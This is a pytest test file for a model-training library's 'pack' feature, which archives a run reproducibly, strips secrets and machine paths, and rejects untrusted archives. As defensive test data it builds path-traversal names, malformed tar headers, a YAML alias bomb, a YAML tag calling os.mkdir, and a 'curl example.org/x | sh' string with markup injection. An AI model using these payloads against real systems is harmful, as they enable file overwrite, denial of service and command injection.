"""A run as one small file: what is in it, what comes out of it, and what is refused."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import re
import shlex
import shutil
import sys
import tarfile
import tracemalloc
import zlib
from dataclasses import replace

import pytest
import yaml
from assets import REPOSITORY, write_reader, write_recipe
from commands import deepspeed, python, run, run_well

from lezo_ds.errors import JournalError, UserError
from lezo_ds.journal import Journal, read_journal
from lezo_ds.model.snapshots import read_manifest, snapshot_path
from lezo_ds.runs.model_card import model_card
from lezo_ds.runs.pack import pack_run, read_pack, recorded_digests
from lezo_ds.runs.restore import read_run
from lezo_ds.zo.records import StepRecord

BF16 = ("model.dtype=bf16", "zo.update_precision=fp32_master")
SMALL_FILES = ["config.yaml", "environment.json", "journal.jsonl", "results.json"]


@pytest.fixture(scope="module")
def recipe(tmp_path_factory):
    return write_recipe(tmp_path_factory.mktemp("assets"))


@pytest.fixture(scope="module")
def finished(recipe, tmp_path_factory):
    """A finished run of 8 steps in bf16."""
    run_dir = tmp_path_factory.mktemp("finished") / "run"
    run_well(python("--config", recipe, f"run_dir={run_dir}", *BF16))
    return run_dir


@pytest.fixture(scope="module")
def packed(finished):
    """The pack that the command made of it."""
    file = finished.parent / "run.tar.gz"
    printed = run_well(
        [sys.executable, str(REPOSITORY / "launch/pack.py"), "--run", str(finished), "--out", str(file)]
    )
    assert f"{file.stat().st_size:,} bytes" in printed.out
    model = yaml.safe_load((finished / "config.yaml").read_text())["model"]["path"]
    (warning,) = [line for line in printed.err.splitlines() if line.startswith("warning: ")]
    assert warning.startswith("warning: the journal in the pack names paths of this machine: data.path=")
    assert f"model.path={model}" in warning
    return file


def export(num_ranks, *arguments):
    """Return the command that exports."""
    command = python(*arguments) if num_ranks == 1 else deepspeed(num_ranks, *arguments)
    train = str(REPOSITORY / "launch" / "train.py")
    return [str(REPOSITORY / "launch" / "export.py") if part == train else part for part in command]


def members(file):
    with tarfile.open(file) as archive:
        return {member.name: archive.extractfile(member).read() for member in archive}


def write_archive(file, contents):
    """Write an archive; values are contents, or whole members."""
    with tarfile.open(file, "w:gz") as archive:
        for name, content in contents.items():
            member = content
            if isinstance(content, bytes):
                member = tarfile.TarInfo(name)
                member.size = len(content)
            archive.addfile(member, io.BytesIO(content if isinstance(content, bytes) else b""))
    return file


def with_hashes(contents):
    """Return the contents with a manifest that vouches for them: what an adversary would write."""
    manifest = json.loads(contents["pack.json"])
    manifest["files"] = {
        name: hashlib.sha256(content).hexdigest() for name, content in contents.items() if name != "pack.json"
    }
    return contents | {"pack.json": json.dumps(manifest).encode()}


@pytest.mark.distributed
def test_a_pack_holds_the_runs_small_files_and_no_weights(finished, packed):
    contents = members(packed)
    manifest = json.loads(contents.pop("pack.json"))
    assert sorted(contents) == SMALL_FILES
    for name, content in contents.items():
        assert manifest["files"][name] == hashlib.sha256(content).hexdigest()
    for name in ("journal.jsonl", "results.json"):
        assert contents[name] == (finished / name).read_bytes()
    results = json.loads(contents["results.json"])
    assert manifest["model_fingerprint"] == results["model_fingerprint"]
    assert manifest["digests"][str(results["best_step"])] == results["weights_digest"]
    assert manifest["digests"]["8"] == read_manifest(snapshot_path(finished / "snapshots", 8))["digest"]


@pytest.mark.distributed
def test_no_secret_and_no_path_of_this_machine_is_packed_outside_the_journal(finished, recipe, tmp_path):
    """In environment.json as versions before wrote it: with the whole command line."""
    shutil.copytree(finished, tmp_path / "run")
    file = tmp_path / "run" / "environment.json"
    recorded = json.loads(file.read_text())
    words = ["python", "/data/alice/own_loop.py", f"data.path={recipe.parent / 'data'}", "seed=3"]
    file.write_text(
        json.dumps(recorded | {"command": [*words, "--hub_token", "hf_secret", "HF_TOKEN=hf_secret"]})
    )
    pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
    contents = members(tmp_path / "run.tar.gz")
    environment = json.loads(contents["environment.json"])
    assert environment.pop("command") == [
        "python",
        "own_loop.py",
        "data.path=data",
        "seed=3",
        "...",
        "...",
        "...",
    ]
    assert environment == {name: value for name, value in recorded.items() if name != "command"}
    config = yaml.safe_load((finished / "config.yaml").read_text())
    config |= {"run_dir": "run", "deepspeed": "zero3_cpu.json"}
    config |= {section: config[section] | {"path": section} for section in ("model", "data")}
    assert yaml.safe_load(contents["config.yaml"]) == config
    del contents["journal.jsonl"]
    private = [b"hf_secret", b"alice", str(recipe.parent).encode(), str(finished.parent).encode()]
    assert not [name for name, content in contents.items() if any(text in content for text in private)]


@pytest.mark.distributed
def test_the_same_run_gives_the_same_bytes_whenever_and_wherever_it_lies(finished, packed, tmp_path):
    shutil.copytree(finished, tmp_path / "moved")
    for path in (tmp_path / "moved").iterdir():
        path.touch()
    assert pack_run(tmp_path / "moved", tmp_path / "again.tar.gz") == packed.stat().st_size
    assert (tmp_path / "again.tar.gz").read_bytes() == packed.read_bytes()


@pytest.mark.distributed
def test_base_model_and_pack_give_the_tuned_model_bit_for_bit(finished, packed, recipe, tmp_path):
    base = tmp_path / "base"
    shutil.copytree(recipe.parent / "model", base)
    target = tmp_path / "model"
    command = export(2, "--pack", packed, "--step", "last", "--out", target, f"model.path={base}")
    done = run_well(command)
    assert "(the same as in the run)" in done.err
    exported, snapshot = read_manifest(target), read_manifest(snapshot_path(finished / "snapshots", 8))
    assert exported["digest"] == snapshot["digest"]
    weights = "model-00001.safetensors"
    assert exported["files"][weights] == snapshot["files"][weights]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["base", "model"]


@pytest.mark.distributed
def test_a_step_of_which_the_run_kept_no_hash_is_exported_and_said_to_be(packed, recipe, tmp_path):
    base = f"model.path={recipe.parent / 'model'}"
    done = run_well(export(1, "--pack", packed, "--step", "3", "--out", tmp_path / "model", base))
    assert "no digest in the run to compare with" in done.err
    assert read_manifest(tmp_path / "model")["step"] == 3


@pytest.mark.distributed
def test_another_base_model_is_refused_and_nothing_is_left(packed, tmp_path):
    other = write_reader(tmp_path / "other", seed=1)
    refused = run(export(1, "--pack", packed, "--out", tmp_path / "model", f"model.path={other}"))
    assert refused.code == 2
    assert f"{other} is not the base model of the run" in refused.err
    assert [path.name for path in tmp_path.iterdir()] == ["other"]


@pytest.mark.distributed
def test_a_pack_whose_steps_were_changed_does_not_pass_for_the_run(packed, recipe, tmp_path):
    """Its journal is sound, and all hashes of files are made anew: only the weights' own can tell."""
    contents = members(packed)
    (tmp_path / "journal.jsonl").write_bytes(contents["journal.jsonl"])
    header, records = read_journal(tmp_path / "journal.jsonl")
    with Journal.create(tmp_path / "forged.jsonl", header) as journal:
        for record in records:
            is_last = isinstance(record, StepRecord) and record.step == 7
            journal.append(replace(record, learning_rate=2e-3) if is_last else record)
    contents["journal.jsonl"] = (tmp_path / "forged.jsonl").read_bytes()
    forged = write_archive(tmp_path / "forged.tar.gz", with_hashes(contents))
    target, base = tmp_path / "model", f"model.path={recipe.parent / 'model'}"
    refused = run(export(1, "--pack", forged, "--step", "last", "--out", target, base))
    assert refused.code == 1
    assert "the weights of step 8 differ from those that the run had" in refused.err
    assert not target.exists()


@pytest.mark.distributed
def test_a_prefix_starts_from_the_values_in_the_pack(recipe, tmp_path):
    peft = ("peft.kind=prefix", "zo.perturbation_scale=0.1", "zo.learning_rate=0.01", *BF16)
    run_well(python("--config", recipe, f"run_dir={tmp_path / 'run'}", "train.steps=4", *peft))
    pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
    first = {name for name in members(tmp_path / "run.tar.gz") if name.startswith("snapshots/")}
    assert "snapshots/step-00000000/prefix.safetensors" in first
    assert any("low_bits/" in name for name in first)
    done = run_well(export(1, "--pack", tmp_path / "run.tar.gz", "--out", tmp_path / "prefix"))
    assert "(the same as in the run)" in done.err
    assert (tmp_path / "prefix" / "prefix.safetensors").is_file()
    assert not list((tmp_path / "prefix").glob("model*"))


@pytest.mark.distributed
def test_the_model_card_names_base_scores_hyperparameters_and_a_recipe_that_works(
    packed, recipe, finished, tmp_path
):
    base, data = recipe.parent / "model", recipe.parent / "data"
    run_well(export(1, "--pack", packed, "--out", tmp_path / "out", f"model.path={base}"))
    text = (tmp_path / "out" / "README.md").read_text()
    _, head, body = text.split("---\n", 2)
    assert yaml.safe_load(head) == {  # no base_model: the hub refuses the name of a directory
        "library_name": "transformers",
        "pipeline_tag": "text-generation",
        "metrics": ["accuracy"],
        "tags": ["lezo_ds", "lezo"],
    }
    assert "| base model | model |" in body
    results = json.loads((finished / "results.json").read_text())
    best = results["best_step"]
    assert f"after {best} of 8 steps (lowest validation loss)" in body
    assert results["weights_digest"] in body
    assert results["model_fingerprint"] in body
    assert f"{results['test']:.4f} | {results['majority_class']:.4f} |" in body
    assert str(tmp_path) not in text
    assert str(recipe.parent) not in text
    again = tmp_path / "recipe.yaml"
    again.write_text(body.split("```yaml\n")[1].split("```")[0])
    places = (f"run_dir={tmp_path / 'again'}", f"model.path={base}", f"data.path={data}")
    run_well(python("--config", again, *places))
    repeated = json.loads((tmp_path / "again" / "results.json").read_text())
    assert repeated["weights_digest"] == results["weights_digest"]
    assert read_manifest(tmp_path / "out") is not None


@pytest.mark.distributed
def test_an_unfinished_run_is_packed_as_far_as_it_went(finished, tmp_path):
    shutil.copytree(finished, tmp_path / "run")
    (tmp_path / "run" / "results.json").unlink()
    shutil.rmtree(tmp_path / "run" / "snapshots")
    pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
    (tmp_path / "unpacked").mkdir()
    run, pack = read_pack(tmp_path / "run.tar.gz", tmp_path / "unpacked")
    assert pack.digests == {}
    assert run.num_steps == 8


@pytest.mark.distributed
def test_hashes_of_another_models_snapshots_are_not_taken(finished, tmp_path):
    shutil.copytree(finished, tmp_path / "run")
    (tmp_path / "run" / "results.json").unlink()
    assert sorted(recorded_digests(read_run(tmp_path / "run"))) == ["4", "8"]
    path = snapshot_path(tmp_path / "run" / "snapshots", 4) / "lezo_manifest.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"base": "another"}))
    assert sorted(recorded_digests(read_run(tmp_path / "run"))) == ["8"]


@pytest.mark.distributed
def test_what_cannot_be_packed_is_refused(finished, tmp_path):
    with pytest.raises(UserError, match="cannot be written to"):
        pack_run(finished, tmp_path / "none" / "run.tar.gz")
    with pytest.raises(UserError, match="is not the directory of a run"):
        pack_run(tmp_path, tmp_path / "run.tar.gz")
    header, _ = read_journal(finished / "journal.jsonl")
    scored = replace(header, config=header.config | {"method": "zero_shot"})
    Journal.create(tmp_path / "journal.jsonl", scored).close()
    with pytest.raises(UserError, match=r"cannot be packed; got: method zero_shot"):
        pack_run(tmp_path, tmp_path / "run.tar.gz")


# Packs that nobody should trust


def refused_reading(file, directory, problem):
    """Assert that a pack is refused, that nothing is written and that it takes little memory."""
    tracemalloc.start()
    with pytest.raises(UserError, match=f"is not a valid pack; got: .*{problem}"):
        read_pack(file, directory)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 64 << 20
    assert not directory.exists()


@pytest.mark.distributed
@pytest.mark.parametrize(
    "name",
    [
        "../outside",
        "/outside",
        "snapshots/step-00000000/../../outside",
        "snapshots/step-00000000/model.safetensors",
    ],
)
def test_a_name_that_no_run_writes_is_refused_and_nothing_is_written(name, packed, tmp_path):
    bad = write_archive(tmp_path / "bad.tar.gz", with_hashes(members(packed) | {name: b"text"}))
    refused_reading(bad, tmp_path / "out", "unexpected member")


def pax(kind, records, size=None):
    """Return an extended header by hand: its block, and the blocks of its records, each with its length."""
    lengths = [len(key) + len(value) + 3 for key, value in records]
    lengths = [length + len(str(length + len(str(length)))) for length in lengths]
    body = b"".join(b"%d %s=%s\n" % (n, *record) for n, record in zip(lengths, records, strict=True))
    header = tarfile.TarInfo("pax")
    header.type, header.size = kind, len(body) if size is None else size
    return header.tobuf(tarfile.GNU_FORMAT) + body + bytes(-len(body) % tarfile.BLOCKSIZE)


def plain(name, size=0, kind=tarfile.REGTYPE):
    member = tarfile.TarInfo(name)
    member.type, member.size, member.linkname = kind, size, "config.yaml"
    return member.tobuf(tarfile.USTAR_FORMAT)


MANY = [(b"key%05d" % number, b"value") for number in range(30_000)]
HEADERS = {
    "sparse": pax(b"x", [(b"GNU.sparse.size", b"4294967296"), (b"GNU.sparse.map", b"0,1")])
    + plain("results.json", 1),
    "sparse of many parts": pax(b"x", [(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0")])
    + plain("results.json", 4096)
    + b"%d\n" % 10**9
    + b"1\n" * 2000,
    "GNU sparse": plain("results.json", 1, tarfile.GNUTYPE_SPARSE),
    "headers of headers": pax(b"x", []) * 5000,
    "global header": pax(b"g", MANY) + pax(b"x", MANY[:1]) * 500 + plain("results.json"),
    "global headers": pax(b"g", MANY[:100]) * 200,
    "slow length": pax(b"x", [(b"x" * 100_000, b"")]),
    "negative length": pax(b"x", [], -512),
    "long name": plain("long", 1 << 30, tarfile.GNUTYPE_LONGNAME),
    "longer than its data": plain("results.json", 1 << 30),
    **{kind.decode(): plain("results.json", 0, kind) for kind in (b"1", b"2", b"3", b"4", b"5", b"6", b"7")},
}


@pytest.mark.distributed
@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
def test_only_plain_files_are_taken_and_no_extended_header_is_followed(headers, packed, tmp_path):
    whole = gzip.decompress(packed.read_bytes())
    bad = tmp_path / "bad.tar.gz"
    bad.write_bytes(gzip.compress(headers + whole))
    refused_reading(bad, tmp_path / "out", "(unexpected member|it unpacks to more|InvalidHeaderError)")


@pytest.mark.distributed
def test_a_small_file_that_would_become_a_huge_one_is_refused(packed, tmp_path):
    bad = write_archive(tmp_path / "bad.tar.gz", members(packed) | {"results.json": bytes(30 << 20)})
    assert bad.stat().st_size < 50_000
    refused_reading(bad, tmp_path / "out", "it unpacks to more than")


def with_journal(contents, *lines):
    """Return the contents with a journal of these lines, whose checksums are valid."""
    text, crc = b"", 0
    for body in lines:
        crc = zlib.crc32(body, crc)
        text += body[:-1] + b',"crc":"%08x"}\n' % crc
    return with_hashes(contents | {"journal.jsonl": text})


@pytest.mark.distributed
def test_what_is_damaged_or_malformed_is_refused_in_one_line(packed, tmp_path):
    contents, whole = members(packed), packed.read_bytes()
    middle = len(whole) // 2
    files = {
        "cut": whole[:middle],
        "flipped": whole[:middle] + bytes([whole[middle] ^ 1]) + whole[middle + 1 :],
        "text": b"text",
        "empty": b"",
        "gzip": gzip.compress(b"text" * 1000),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    manifest, deep = json.loads(contents["pack.json"]), b"[" * 50_000
    bomb = b"a: &a {x: 1}\n" + b"".join(
        b"%c: &%c {<<: [%s]}\n" % (c + 1, c + 1, b", ".join([b"*%c" % c] * 9)) for c in b"abcdefghij"
    )
    first_line = re.sub(rb',"crc":"\w+"}$', b"}", contents["journal.jsonl"].splitlines()[0])
    huge = b'{"kind":"evaluation","step":0,"split":"dev","loss":1%s,"metrics":{}}' % (b"0" * 400)
    archives = {
        "changed": contents | {"config.yaml": contents["config.yaml"] + b"\n"},
        "bare": {name: content for name, content in contents.items() if name != "pack.json"},
        "partial": with_hashes({n: c for n, c in contents.items() if n != "journal.jsonl"}),
        "newer": contents | {"pack.json": json.dumps(manifest | {"format_version": 2}).encode()},
        "list": contents | {"pack.json": b"[]"},
        "deep": contents | {"pack.json": deep},
        "wide": contents | {"pack.json": b"[" + b"[]," * 300_000 + b"[]]"},
        "deep environment": with_hashes(contents | {"environment.json": deep}),
        "long environment": with_hashes(contents | {"environment.json": b"{" + b" " * 70_000 + b"}"}),
        "results": with_hashes(contents | {"results.json": b"[]"}),
        "tag": with_hashes(contents | {"config.yaml": b"!!python/object/apply:os.mkdir [made]"}),
        "bomb": with_hashes(contents | {"config.yaml": bomb}),
        "deep config": with_hashes(contents | {"config.yaml": b"[" * 5000}),
        "deep journal": with_journal(contents, b'{"config":' + deep + b"}"),
        "list of a journal": with_journal(contents, b"[]"),
        "large number": with_journal(contents, first_line, huge),
        "types in a journal": with_journal(
            contents,
            json.dumps(
                {
                    "kind": "header",
                    "format_version": 1,
                    "noise_version": 1,
                    "model_fingerprint": [],
                    "parameter_table_hash": "",
                    "config": [1],
                    "libraries": [],
                }
            ).encode(),
        ),
    }
    for wrong in ({"digests": [1]}, {"digests": {"8": 1}}, {"files": "x"}, {"base_model": {}}, {"more": 1}):
        archives[str(wrong)] = contents | {"pack.json": json.dumps(manifest | wrong).encode()}
    for name, members_of in archives.items():
        write_archive(tmp_path / name, members_of)
    (tmp_path / "out").mkdir()
    for name in (*files, *archives, "absent"):
        with pytest.raises(
            (UserError, JournalError), match=r"is not a valid pack|journal\.jsonl line \d is damaged"
        ):
            read_pack(tmp_path / name, tmp_path / "out")
    assert not (tmp_path / "made").exists()


HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"


@pytest.mark.distributed
def test_no_text_of_a_pack_becomes_a_command_or_markup_in_the_model_card(finished, tmp_path):
    shutil.copytree(finished, tmp_path / "run")
    run = read_run(tmp_path / "run", ())
    environment = json.loads((tmp_path / "run" / "environment.json").read_text())
    environment |= {"world_size": HOSTILE, "platform": HOSTILE, "hardware": {"gpu": HOSTILE}}
    environment["versions"] = {HOSTILE: HOSTILE}
    (tmp_path / "run" / "environment.json").write_text(json.dumps(environment))
    config = run.config
    model, data = replace(config.model, path=HOSTILE), replace(config.data, path=HOSTILE)
    train = replace(config.train, objective=HOSTILE)
    spoilt = replace(run, config=replace(config, model=model, data=data, train=train))
    text = model_card(spoilt, 8, "digest")
    _, head, body = text.split("---\n", 2)
    assert "base_model" not in yaml.safe_load(head)
    (_, recipe), (_, command) = re.findall(r"^(`{4,})\w+\n(.*?)\n\1$", body, re.MULTILINE | re.DOTALL)
    assert yaml.safe_load(recipe)["train"]["objective"] == HOSTILE
    assert shlex.split(command)[:3] == ["deepspeed", "--num_gpus", HOSTILE]
    outside = body.replace(recipe, "").replace(command, "")
    assert not re.search(r"\]\(http://|<img|; curl .* \| sh", outside)
